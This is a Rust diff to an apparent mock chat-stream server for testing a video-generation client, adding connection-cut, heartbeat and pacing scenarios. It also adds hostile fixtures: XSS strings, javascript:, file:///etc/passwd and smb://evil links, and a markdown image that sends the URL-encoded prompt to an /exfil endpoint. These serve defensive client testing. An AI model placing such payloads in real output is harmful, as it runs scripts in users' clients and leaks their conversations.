@@ -27,8 +27,15 @@ pub enum Step {
     Done,
     /// Drop the connection abruptly; the script goes on without the client.
     Cut,
+    /// Send the first half of the bytes of `delta: {"content": text}`, then drop the
+    /// connection; the script goes on without the client.
+    CutMidEvent(String),
     /// Send nothing more but keep the connection open; the script goes on silently.
     Detach,
+    /// Note the send time of a progress value (`[stamp]`, see `crate::stamps`).
+    Stamp { task: String, value: u8 },
+    /// Wait until one tick after the previous pace point: a steady delta rate (`[flood]`).
+    Pace,
 }
 
 /// What a script is built from.
@@ -56,6 +63,56 @@ pub const FAILURE_REASON: &str = "视频生成失败，请稍后重试 (generati
 pub const POLICY_REASON: &str = "内容违规 (moderation_blocked)";
 /// The error frame of [`Scenario::ServerErrorFrame`].
 pub const ERROR_FRAME: &str = r#"{"error":{"message":"upstream error","type":"server_error"}}"#;
+
+/// Queue dots of [`Scenario::Heartbeat`]: 30 ticks, i.e. 10 minutes at one dot every 20 s.
+pub const HEARTBEAT_BEATS: u64 = 30;
+
+/// The text [`Scenario::HostileHtml`] puts after the plan. Run by a webview, each would set
+/// `window.__pwned`.
+pub const HOSTILE_HTML: &str = "<script>window.__pwned=1</script>\n<img src=x onerror=\"window.__pwned=1\">\n<iframe src=\"javascript:window.__pwned=1\"></iframe>\n<a href=\"javascript:window.__pwned=1\">点我</a>";
+
+/// The text [`Scenario::HostileLinks`] puts after the plan: links a client must neither
+/// follow nor take for the task page or the video (only http(s) links count).
+pub const HOSTILE_LINKS: &str = "[点我](javascript:window.__pwned=1) | [页面](data:text/html,<script>window.__pwned=1</script>) | [密码](file:///etc/passwd) | [共享](smb://evil/share)\n>[数据预览](javascript:window.__pwned=1) | [原始数据](file:///etc/passwd)\n[视频文件](javascript:window.__pwned=1)";
+
+/// `chat=<prompt>` for the exfiltration URLs: unreserved bytes kept, the rest `%XX`.
+fn query_value(text: &str) -> String {
+    text.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                char::from(b).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+/// What [`Scenario::ExfilImage`] adds after the real links.
+pub fn exfil_block(base_url: &str, prompt: &str) -> String {
+    let chat = query_value(prompt);
+    format!("\n\n![x]({base_url}/exfil?chat={chat})\n[查看详情]({base_url}/exfil/link?chat={chat})")
+}
+
+/// The preview and video links a scenario ends with.
+fn result_links(input: &ScriptInput<'_>, sid: &str) -> (String, String) {
+    let base = input.base_url;
+    let (preview, video) = media_urls(base, sid);
+    match input.scenario {
+        Scenario::PrivateVideo => (
+            "http://192.168.1.5/p.jpg".into(),
+            "http://10.0.0.1/v.mp4".into(),
+        ),
+        Scenario::PrivateLoopback => (
+            format!("{base}/private/p.jpg"),
+            format!("{base}/private/v.mp4"),
+        ),
+        Scenario::HtmlVideo => (preview, format!("{base}/hostile/page.mp4")),
+        Scenario::HugeVideo => (preview, format!("{base}/hostile/huge.mp4")),
+        Scenario::RedirectAuth => (preview, format!("{base}/r/video/{sid}.mp4")),
+        _ => (preview, video),
+    }
+}
 
 /// `portrait` when the prompt asks for it (竖屏, 9:16, portrait, vertical), else `landscape`.
 pub fn orientation(prompt: &str) -> &'static str {
@@ -159,8 +216,13 @@ impl Builder<'_> {
             },
         );
         let base = input.base_url;
+        let raw = if input.scenario == Scenario::RedirectAuth {
+            format!("{base}/r/source/{id}")
+        } else {
+            format!("{base}/source/{id}")
+        };
         self.text(&format!(
-            "{lead}> ID: `{id}`\n>[数据预览]({base}/web/{id}) | [原始数据]({base}/source/{id})\n> 排队中"
+            "{lead}> ID: `{id}`\n>[数据预览]({base}/web/{id}) | [原始数据]({raw})\n> 排队中"
         ));
     }
 
@@ -187,6 +249,11 @@ pub fn build(input: &ScriptInput<'_>, rng: &mut Rng) -> Script {
         rng,
     };
     b.text(&plan_block(input.prompt, input.model, input.source_sid));
+    match input.scenario {
+        Scenario::HostileHtml => b.text(&format!("\n\n{HOSTILE_HTML}")),
+        Scenario::HostileLinks => b.text(&format!("\n\n{HOSTILE_LINKS}")),
+        _ => {}
+    }
     b.submit(input, &first_task, "\n\n");
 
     match input.scenario {
@@ -208,10 +275,10 @@ pub fn build(input: &ScriptInput<'_>, rng: &mut Rng) -> Script {
     }
 
     let queue = b.rng.range(3, 6);
-    b.dots(if input.scenario == Scenario::SlowQueue {
-        queue * 20
-    } else {
-        queue
+    b.dots(match input.scenario {
+        Scenario::SlowQueue => queue * 20,
+        Scenario::Heartbeat => HEARTBEAT_BEATS,
+        _ => queue,
     });
     let mut current = first_task;
     if input.scenario == Scenario::Resubmit {
@@ -241,19 +308,32 @@ pub fn build(input: &ScriptInput<'_>, rng: &mut Rng) -> Script {
 
     b.text("\n\n>🏃 进度 ");
     let fail_above = b.rng.range(30, 70) as u8;
-    let mut cut = input.scenario == Scenario::CutStream;
+    let mut cut = matches!(
+        input.scenario,
+        Scenario::CutStream | Scenario::ResetMidEvent
+    );
     let mut highest = 0;
-    for value in progress_values(b.rng) {
+    let stamping = crate::stamps::Stamping::from_prompt(input.prompt);
+    for value in stamping.values(progress_values(b.rng)) {
         if input.scenario == Scenario::Failure && highest >= fail_above {
             break;
         }
-        b.steps.push(Step::Tick);
+        b.steps.push(stamping.pause());
         b.task(&current, TaskUpdate::Progress(value));
-        b.text(&format!("{value}.."));
         highest = highest.max(value);
         if cut && highest >= 38 {
-            b.steps.push(Step::Cut);
+            if input.scenario == Scenario::ResetMidEvent {
+                b.steps.push(Step::CutMidEvent(format!("{value}..")));
+                b.text(&format!("{value}.."));
+            } else {
+                b.text(&format!("{value}.."));
+                b.steps.push(Step::Cut);
+            }
             cut = false;
+        } else if stamping.stamp {
+            stamping.push_value(&mut b.steps, &current, value);
+        } else {
+            b.text(&format!("{value}.."));
         }
     }
     if input.scenario == Scenario::Failure {
@@ -272,10 +352,13 @@ pub fn build(input: &ScriptInput<'_>, rng: &mut Rng) -> Script {
             sid: result_sid.clone(),
         },
     );
-    let (preview, video) = media_urls(input.base_url, &result_sid);
+    let (preview, video) = result_links(input, &result_sid);
     b.text(&format!(
         "\n\n> 生成完成 ✅\n> sid: {result_sid}\n\n[预览图]({preview})\n[视频文件]({video})"
     ));
+    if input.scenario == Scenario::ExfilImage {
+        b.text(&exfil_block(input.base_url, input.prompt));
+    }
     b.steps.push(Step::Finish);
     b.steps.push(Step::Done);
     Script { steps: b.steps }
